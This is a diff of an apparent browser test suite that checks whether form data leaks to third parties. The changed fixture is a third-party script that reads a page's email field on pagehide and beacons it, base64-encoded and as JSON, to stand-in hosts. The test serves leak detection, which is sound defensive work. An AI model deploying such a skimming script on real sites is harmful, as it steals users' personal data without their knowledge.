@@ -57,14 +57,22 @@ describe.each(browsers)("a form that is sent, in %s", (browser) => {
 
   test("to the page's own site, while a script of another company tells on as the page goes", async () => {
     stage.sites.put("cdn.late.test/l.js", {
-      body: `addEventListener("pagehide", () => navigator.sendBeacon("http://in.late.test/b", btoa(document.querySelector("[type=email]").value)))`,
+      body: `addEventListener("pagehide", () => {
+        const { value } = document.querySelector("[type=email]");
+        navigator.sendBeacon("http://in.late.test/b", btoa(value));
+        navigator.sendBeacon("http://blob.late.test/b", new Blob([JSON.stringify({ value })], { type: "application/json" }));
+        navigator.sendBeacon("http://nothing.late.test/b");
+      })`,
       type: "text/javascript",
     });
     const late = await sentFrom(
       "late.example",
       `<form action="/thanks" method="post">${email}</form><script src="http://cdn.late.test/l.js"></script>`,
     );
-    expect(late).toEqual(["in.late.test body base64 after-submit saw"]);
+    expect(late.sort()).toEqual([
+      "blob.late.test body after-submit saw",
+      "in.late.test body base64 after-submit saw",
+    ]);
   });
 
   test("to the page's own site alone: nobody else got anything", async () => {
